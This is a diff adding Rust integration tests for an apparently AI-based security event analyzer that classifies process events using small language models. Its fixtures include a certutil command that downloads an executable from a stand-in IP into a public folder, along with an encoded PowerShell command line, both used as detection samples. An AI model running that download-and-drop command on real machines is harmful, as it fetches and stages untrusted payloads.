@@ -1,0 +1,128 @@
+//! The analysis designs against the real SmolLM2 (chat template) and Gemma 3 270M (base model,
+//! completion style). These check shapes and mechanics; how often the verdicts are right is
+//! what `sotto eval` measures.
+
+use std::sync::Arc;
+
+use sotto_analyze::{Admission, AnalyzeError, Analyzer, Detail, Mode, Options, Style};
+use sotto_engine::{Engine, EngineConfig, NoPacing};
+use sotto_events::{Event, Label};
+use sotto_models::{catalog, store};
+
+fn engine(id: &str) -> Arc<Engine> {
+    let path = store::models_dir().join(catalog::find(id).unwrap().file_name);
+    assert!(path.exists(), "{} is missing: run `sotto models fetch` first", path.display());
+    Arc::new(Engine::start(EngineConfig::new(path), Box::new(NoPacing)).expect("engine starts"))
+}
+
+fn event(json: serde_json::Value) -> Event {
+    sotto_events::parse_json(&json).unwrap()
+}
+
+fn download() -> Event {
+    event(serde_json::json!({"os": "windows", "process_name": "certutil.exe", "parent_name": "cmd.exe",
+        "command_line": "certutil.exe -urlcache -split -f http://203.0.113.77/x.exe C:\\Users\\Public\\x.exe"}))
+}
+
+fn service_host() -> Event {
+    event(serde_json::json!({"os": "windows", "process_name": "C:\\Windows\\System32\\svchost.exe",
+        "parent_name": "services.exe", "command_line": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Winmgmt"}))
+}
+
+fn analyzer(engine: &Arc<Engine>, mode: Mode) -> Analyzer {
+    Analyzer::new(engine.clone(), Options { mode, ..Options::default() })
+}
+
+#[tokio::test]
+async fn fast_path_scores_the_labels_and_reuses_the_examples_prefix() {
+    let engine = engine("smollm2-135m");
+    let a = analyzer(&engine, Mode::Fast);
+    assert_eq!(a.style(), Style::Chat);
+    let first = a.analyze(&download(), Detail::Verdict, Admission::default()).await.unwrap();
+    let scores = first.verdict.scores.expect("the fast path reports label probabilities");
+    let sum = scores.malicious + scores.suspicious + scores.benign;
+    assert!((sum - 1.0).abs() < 1e-9, "{scores:?}");
+    let best = scores.malicious.max(scores.suspicious).max(scores.benign);
+    assert!((first.verdict.confidence - best).abs() < 1e-12, "confidence is the chosen label's probability");
+    if first.verdict.verdict != Label::Benign {
+        assert!(first.verdict.rationale.is_some(), "non-benign verdicts carry a rationale: {first:?}");
+    }
+    let second = a.analyze(&service_host(), Detail::Full, Admission::default()).await.unwrap();
+    // Instructions and eleven examples are shared: only the event's own tokens are evaluated.
+    assert!(second.cached_tokens > 500, "{second:?}");
+    assert!(second.prompt_tokens - second.cached_tokens < 200, "{second:?}");
+    assert!(second.verdict.rationale.is_some(), "detail=full always explains: {second:?}");
+    if second.verdict.verdict == Label::Benign {
+        assert!(second.verdict.techniques.is_empty());
+    }
+}
+
+#[tokio::test]
+async fn constrained_generation_always_yields_a_valid_verdict_on_both_model_styles() {
+    for id in ["smollm2-135m", "gemma3-270m"] {
+        let engine = engine(id);
+        for mode in [Mode::Constrained, Mode::ConstrainedZeroShot] {
+            let a = analyzer(&engine, mode);
+            for e in [download(), service_host()] {
+                let analysis = a.analyze(&e, Detail::Full, Admission::default()).await.unwrap_or_else(|err| {
+                    panic!("{id} {mode}: {err}");
+                });
+                let v = &analysis.verdict;
+                assert!((0.0..=1.0).contains(&v.confidence), "{id} {mode}: {v:?}");
+                assert!(v.techniques.iter().all(|t| sotto_events::techniques::is_valid(t)), "{v:?}");
+                assert!(v.rationale.as_deref().is_some_and(|r| !r.is_empty()), "{id} {mode}: {v:?}");
+            }
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_base_model_gets_completion_style_prompts_and_the_fast_path_works() {
+    let engine = engine("gemma3-270m");
+    let a = analyzer(&engine, Mode::Fast);
+    assert_eq!(a.style(), Style::Completion);
+    let analysis = a.analyze(&download(), Detail::Full, Admission::default()).await.unwrap();
+    assert!(analysis.verdict.scores.is_some());
+    assert!(analysis.verdict.rationale.is_some(), "{analysis:?}");
+}
+
+#[tokio::test]
+async fn the_naive_baseline_answers_or_says_it_could_not_read_the_answer() {
+    let engine = engine("smollm2-135m");
+    let a = analyzer(&engine, Mode::Naive);
+    match a.analyze(&download(), Detail::Full, Admission::default()).await {
+        Ok(analysis) => assert!(analysis.verdict.scores.is_none() && analysis.generated_tokens > 0),
+        Err(AnalyzeError::Unparsed(text)) => assert!(!text.is_empty()),
+        Err(other) => panic!("{other}"),
+    }
+}
+
+#[tokio::test]
+async fn long_fields_are_truncated_and_marked() {
+    let engine = engine("smollm2-135m");
+    let long = format!("powershell.exe -enc {}", "QQBBAEEAQQ".repeat(150));
+    let e = event(serde_json::json!({"os": "windows", "command_line": long}));
+    let run = |max_field_chars| {
+        // One request per analysis (no examples, no second step): its prompt is the event's size.
+        let options = Options { max_field_chars, mode: Mode::ConstrainedZeroShot, ..Options::default() };
+        let a = Analyzer::new(engine.clone(), options);
+        let e = e.clone();
+        async move { a.analyze(&e, Detail::Verdict, Admission::default()).await.unwrap() }
+    };
+    let cut = run(200).await;
+    let whole = run(100_000).await;
+    assert!(cut.truncated && !whole.truncated);
+    // 1500 characters of base64 against 200.
+    assert!(whole.prompt_tokens > cut.prompt_tokens + 300, "{} vs {}", whole.prompt_tokens, cut.prompt_tokens);
+}
+
+#[tokio::test]
+async fn an_expired_deadline_is_refused_without_evaluation() {
+    let engine = engine("smollm2-135m");
+    let a = analyzer(&engine, Mode::Fast);
+    let past = Admission { deadline: Some(std::time::Instant::now()), ..Admission::default() };
+    match a.analyze(&download(), Detail::Verdict, past).await {
+        Err(AnalyzeError::Deadline) => {}
+        other => panic!("expected Deadline, got {other:?}"),
+    }
+}
